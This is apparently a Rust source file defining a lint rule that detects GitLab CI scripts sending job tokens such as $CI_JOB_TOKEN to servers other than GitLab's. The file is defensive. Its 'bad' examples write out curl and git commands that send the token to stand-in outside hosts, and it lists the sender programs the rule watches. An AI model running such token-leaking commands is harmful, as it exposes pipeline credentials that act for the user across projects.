//! `gl-token-scope`

use super::{Check, Example, Findings, Loosens, Rule, Scope};
use crate::finding::Severity;
use crate::view::scripts;
use crate::view::shell::{Command, every};

/// The tokens that GitLab gives a job of its own accord.
const TOKENS: &[&str] = &["CI_DEPLOY_PASSWORD", "CI_JOB_TOKEN", "CI_REGISTRY_PASSWORD"];
/// Programs that send what they are told to an address.
const SENDERS: &[&str] = &["curl", "git", "http", "https", "wget", "xh"];

pub(super) static RULE: Rule = Rule {
    id: "gl-token-scope",
    summary: "a token of the job is sent to a server that is not GitLab's",
    why: "`$CI_JOB_TOKEN` acts for whoever started the pipeline, in this project and in every project that lets it in, for as long \
          as the job runs. Only GitLab and its registry have any use for it. A server of GitLab's is known by its variables \
          (`$CI_API_V4_URL`, `$CI_SERVER_HOST`, `$CI_REGISTRY`), by its name, or by what is asked of it (`/api/v4/`).",
    severity: Severity::Error,
    settings: r#"hosts | Array String | doc "Servers of GitLab's that are written by their names; `*` is any text." | default = ["*gitlab*"],"#,
    loosens: &[("hosts", Loosens::Item)],
    check: Check::Project(check),
    examples: &[
        Example::bad(&[(
            "ci",
            r#"{ jobs.test.steps = [{ run = "curl --header \"JOB-TOKEN: $CI_JOB_TOKEN\" https://upload.example.org/a -T a" }] }"#,
        )])
        .project("{ backends.gitlab = {} }"),
        Example::bad(&[(
            "ci",
            r#"{ jobs.test.gitlab = { after_script = ["T=$CI_JOB_TOKEN", "curl -d token=$CI_JOB_TOKEN https://hooks.example.org"] } }"#,
        )])
        .project("{ backends.gitlab = {} }"),
        Example::bad(&[(
            "ci",
            r#"{ jobs.test.steps = [{ run = "git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@git.example.org/a/b" }] }"#,
        )])
        .project("{ backends.gitlab = {} }")
        .policy(r#"{ rules.gl-token-scope.settings.hosts = ["git.acme.com"] }"#),
        Example::good(&[(
            "ci",
            r#"{ jobs.test.steps = [{ run = "curl -H \"JOB-TOKEN: $CI_JOB_TOKEN\" \"$CI_API_V4_URL/projects\"\ncurl -H \"JOB-TOKEN: $CI_JOB_TOKEN\" https://gitlab.com/api/v4/job\ngit clone https://gitlab-ci-token:$CI_JOB_TOKEN@$CI_SERVER_HOST/a/b\ncurl https://example.org/a" }] }"#,
        )])
        .project("{ backends.gitlab = {} }"),
        Example::good(&[(
            "ci",
            r#"{ jobs.test.steps = [{ run = "curl -H \"JOB-TOKEN: $CI_JOB_TOKEN\" https://git.acme.com/api/v4/job" }] }"#,
        )])
        .project("{ backends.gitlab = {} }"),
        Example::good(&[(
            "ci",
            r#"{ jobs.test.steps = [{ run = "git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@git.acme.com/a/b" }] }"#,
        )])
        .project("{ backends.gitlab = {} }")
        .policy(r#"{ rules.gl-token-scope.settings.hosts = ["git.acme.com"] }"#),
    ],
    ..Rule::GITLAB
};

fn check(scope: &Scope<'_>, findings: &mut Findings) {
    let hosts = scope.settings.texts("hosts");
    for script in scripts::with_any(scope, TOKENS) {
        let commands = script.commands();
        for command in every(&commands).into_iter().filter(|command| SENDERS.contains(&command.name())) {
            let Some(token) = TOKENS.iter().find(|token| command.takes(token)) else { continue };
            for host in addresses(command) {
                if crate::view::glob::matches_any(hosts.iter().copied(), &host) {
                    continue;
                }
                findings
                    .report(script.identity(), script.origin, format!("`{}` sends `${token}` to `{host}`", command.name()))
                    .key(format!("{token}/{host}"))
                    .decided(scope.settings, "hosts")
                    .help("send a token of that server's own, or write $CI_SERVER_HOST if it is GitLab's");
            }
        }
    }
}

/// The servers that a command names by what is written, in lower case; none that is asked as GitLab is.
fn addresses(command: &Command) -> Vec<String> {
    let words = command.arguments().iter().filter_map(|word| word.text.split_once("://"));
    let hosts = words.filter(|(_, rest)| !rest.contains("/api/v4/")).map(|(_, rest)| {
        let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let host = rest[..end].rsplit_once('@').map_or(&rest[..end], |(_, host)| host);
        host.split(':').next().unwrap_or_default().to_ascii_lowercase()
    });
    hosts.filter(|host| host.contains('.') && !host.contains('$')).collect()
}
